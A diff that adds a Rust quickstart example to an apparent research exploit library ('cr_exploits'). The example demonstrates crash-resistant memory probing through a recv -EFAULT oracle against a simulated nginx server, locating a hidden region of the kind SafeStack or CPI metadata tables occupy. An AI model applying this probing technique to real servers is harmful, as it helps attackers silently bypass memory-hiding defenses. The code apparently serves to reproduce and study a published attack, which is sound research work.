@@ -1,0 +1,48 @@
+//! Quickstart: the three-step probe loop of the paper's Figure 1,
+//! end to end, in under a minute of reading.
+//!
+//! 1. **Overwrite a value in memory** — the attacker's write primitive
+//!    corrupts a pointer the program will consume.
+//! 2. **Trigger execution of probing** — a legitimately reachable code
+//!    path (here: completing an HTTP request) makes the server pass the
+//!    corrupted pointer to `recv`.
+//! 3. **Infer the state** — the kernel answers `-EFAULT` for unmapped
+//!    memory (connection closed, no data) and success for mapped memory
+//!    (response arrives). No crash either way.
+//!
+//! ```sh
+//! cargo run --example quickstart
+//! ```
+
+use cr_exploits::nginx::NginxOracle;
+use cr_exploits::{MemoryOracle, ProbeResult};
+
+fn main() {
+    println!("booting nginx-sim and standing up the recv memory oracle ...");
+    let mut oracle = NginxOracle::new();
+
+    // A defense hides a secret region somewhere the attacker has no
+    // pointer to (think: a SafeStack or CPI's metadata table).
+    let secret = 0x55_0000_3000u64;
+    oracle.proc().mem.map(secret, 0x1000, cr_vm::Prot::RW);
+    println!("defender hid a region at {secret:#x} (no references anywhere)\n");
+
+    for addr in [secret - 0x2000, secret - 0x1000, secret, secret + 0x1000] {
+        let verdict = oracle.probe(addr);
+        println!(
+            "probe {addr:#014x} → {}",
+            match verdict {
+                ProbeResult::Mapped => "MAPPED   ← found something",
+                ProbeResult::Unmapped => "unmapped",
+                ProbeResult::Inconclusive => "inconclusive",
+            }
+        );
+    }
+
+    println!(
+        "\n{} probes issued, crashes: {} — the server never noticed.",
+        oracle.probes(),
+        if oracle.crashed() { "YES" } else { "zero" }
+    );
+    assert!(!oracle.crashed());
+}
